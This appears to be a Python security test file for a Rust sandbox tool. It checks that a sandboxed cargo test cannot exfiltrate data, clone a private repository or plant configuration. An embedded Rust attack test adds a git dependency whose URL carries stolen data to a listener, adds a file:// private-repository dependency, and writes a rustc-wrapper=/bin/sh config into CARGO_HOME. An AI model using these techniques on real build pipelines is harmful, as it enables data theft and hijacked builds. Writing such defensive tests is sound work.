"""Code that ran in the sandbox cannot reach the network through cargo's next download, nor plant cargo config.

The one cargo step with the network is the download (the sandbox's fetch
profile). The attacks: a sandboxed test rewrites ``Cargo.toml`` with a ``git``
dependency whose URL carries data (exfiltration through the next fetch) and a
``file://`` one naming a private repository on the machine (cloned into
``CARGO_HOME``, where the next test would read it); and it writes a
``config.toml`` into the ``CARGO_HOME`` candidates share (a ``rustc-wrapper``
for the next cargo). The registry is the fake crates.io (a test double on
127.0.0.1), so the download is real.

Each test asserts that the attack failed (no connection, no clone, no config)
and that nothing was lost (the published tree intact, the next check run told
why, cargo's configuration still flakebot's).
"""

from __future__ import annotations

import socket
import subprocess
from collections.abc import Iterator
from pathlib import Path

import pytest

from flakebot_magic.edit.checkrun import CheckRunner
from flakebot_magic.edit.files import WorkspaceFiles
from flakebot_magic.errors import PolicyError
from flakebot_magic.events import EventBus
from flakebot_magic.host.git import Git
from flakebot_magic.host.process import ProcessRunner
from flakebot_magic.registry.cratesio import CratesIoRegistry
from flakebot_magic.sandbox import Sandbox, bubblewrap_works
from flakebot_magic.sandbox.cargo import Cargo
from flakebot_magic.sandbox.policy import Baseline, TreePolicy
from flakebot_magic.stages.fork import fork
from flakebot_magic.testing.fake_cratesio import FakeCrate, FakeCratesIo

pytestmark = [
    pytest.mark.cargo,
    pytest.mark.skipif(bool(bubblewrap_works()), reason=f"no working bubblewrap: {bubblewrap_works()}"),
]

MANIFEST = (
    '[package]\nname = "leaky"\nversion = "0.1.0"\nedition = "2021"\nlicense = "MIT"\n'
    'description = "Its test rewrites the manifest"\n\n[dependencies]\ntinydep = "0.1"\n'
)
# the test appends two git dependencies: data in a URL, and a private repository on this machine
LEAK_TEST = r"""
#[test]
fn rewrites_the_manifest_and_cargo_home() {
    let dir = env!("CARGO_MANIFEST_DIR");
    let mut manifest = std::fs::read_to_string(format!("{}/Cargo.toml", dir)).unwrap();
    manifest.push_str("exfil = { git = \"http://127.0.0.1:PORT/stolen-DATA\" }\n");
    manifest.push_str("private = { git = \"file://PRIVATE\" }\n");
    std::fs::write(format!("{}/Cargo.toml", dir), manifest).unwrap();
    let home = std::env::var("CARGO_HOME").unwrap();
    let planted = std::fs::write(format!("{}/config.toml", home), "[build]\nrustc-wrapper = \"/bin/sh\"\n");
    println!("PLANTED {:?}", planted.map_err(|e| e.kind()));
}
"""


@pytest.fixture
def listener() -> Iterator[socket.socket]:
    sock = socket.socket()
    sock.bind(("127.0.0.1", 0))
    sock.listen()
    sock.setblocking(False)
    yield sock
    sock.close()


def _connected(sock: socket.socket) -> bool:
    try:
        sock.accept()[0].close()
    except OSError:
        return False
    return True


@pytest.fixture
def private_repo(tmp_path: Path) -> Path:
    repo = tmp_path / "private"
    repo.mkdir()
    git = ["git", "-c", "user.name=t", "-c", "user.email=t@t", "-c", "core.hooksPath=/dev/null"]
    subprocess.run([*git, "init", "-q", "-b", "main"], cwd=repo, check=True)
    (repo / "Cargo.toml").write_text('[package]\nname = "private"\nversion = "0.1.0"\n')
    (repo / "src").mkdir()
    (repo / "src" / "lib.rs").write_text("// PRIVATE SOURCE\n")
    subprocess.run([*git, "add", "-A"], cwd=repo, check=True)
    subprocess.run([*git, "commit", "-q", "-m", "private"], cwd=repo, check=True)
    return repo


def test_a_manifest_rewritten_by_a_test_never_reaches_the_network_or_a_private_repository(
    tmp_path: Path, listener: socket.socket, private_repo: Path
) -> None:
    test = LEAK_TEST.replace("PORT", str(listener.getsockname()[1])).replace("PRIVATE", str(private_repo))
    crates = [
        FakeCrate("tinydep", "0.1.0", files={"src/lib.rs": "pub fn one() -> u32 {\n    1\n}\n"}),
        FakeCrate("leaky", "0.1.0", files={"Cargo.toml": MANIFEST, "src/lib.rs": "", "tests/leak.rs": test}),
    ]
    with FakeCratesIo(crates) as fake:
        registry = CratesIoRegistry(api_url=fake.url, index_url=fake.index_url, min_interval=0.0)
        runner = ProcessRunner()
        workspace = fork(
            registry.get("leaky"),
            registry,
            tmp_path / "workspaces",
            "leaky",
            runner=runner,
            bus=EventBus([]),
            cargo=Cargo(registry, runner),
        ).path
        git = Git(workspace, runner)
        checks = CheckRunner(
            WorkspaceFiles(workspace, published=Baseline.from_git(git)),
            cargo=Cargo(registry, runner, Sandbox(workspace)),
            git=git,
            bus=EventBus([]),
            build_timeout=300,
            test_timeout=300,
        )
        first = checks.cargo_run(1, clippy=False)  # downloads tinydep, builds, runs the test that rewrites
        assert first.built and first.tests is not None and first.tests.passed == 1
        home = Sandbox(workspace).cargo_home
        config = (home / "config.toml").read_text()
        # the next check run: its download comes after the policy, which refuses the git dependencies
        second = checks.cargo_run(2, clippy=False)
        requests = list(fake.requests)
        registry.close()
    assert second.refused_before and not second.built
    assert any("git dependency" in v.reason and "stolen-DATA" in v.reason for v in second.refused_before)
    assert any("git dependency" in v.reason and str(private_repo) in v.reason for v in second.refused_before)
    assert "build policy" in second.note
    assert checks.policy(second) == second.refused_before  # what the loop reverts, and tells the model
    assert not _connected(listener)  # no git clone, no request with the data
    assert not any("stolen" in r.path for r in requests)
    assert not (home / "git").exists()  # nothing of the private repository in CARGO_HOME
    assert "PRIVATE SOURCE" not in "".join(p.read_text(errors="replace") for p in home.rglob("*.rs"))
    # the test could not plant cargo configuration: CARGO_HOME is read-only in the build profile
    assert (home / "config.toml").read_text() == config and "rustc-wrapper" not in config
    # nothing lost: the published source and its history are as forked
    assert subprocess.run(["git", "diff", "--quiet", "published", "--", "src"], cwd=workspace).returncode == 0


def test_the_fetch_profile_runs_only_after_the_policy_passes(tmp_path: Path, listener: socket.socket) -> None:
    """Cargo.resolve itself checks the tree: no caller can fetch a tree the policy refuses."""
    manifest = MANIFEST.replace("leaky", "direct") + (
        f'exfil = {{ git = "http://127.0.0.1:{listener.getsockname()[1]}/direct" }}\n'
    )
    with FakeCratesIo([FakeCrate("tinydep", "0.1.0")]) as fake:
        registry = CratesIoRegistry(api_url=fake.url, index_url=fake.index_url, min_interval=0.0)
        workspace = tmp_path / "direct"
        (workspace / "src").mkdir(parents=True)
        (workspace / "Cargo.toml").write_text(manifest)
        (workspace / "src" / "lib.rs").write_text("")
        cargo = Cargo(registry, ProcessRunner())
        with pytest.raises(PolicyError, match="git dependency"):
            cargo.fetch(workspace, policy=TreePolicy(), timeout=120)
        with pytest.raises(PolicyError, match="git dependency"):
            cargo.resolve("generate-lockfile", cwd=workspace, policy=TreePolicy(), timeout=120)
        registry.close()
    assert not _connected(listener)
    assert not (workspace / "Cargo.lock").exists()
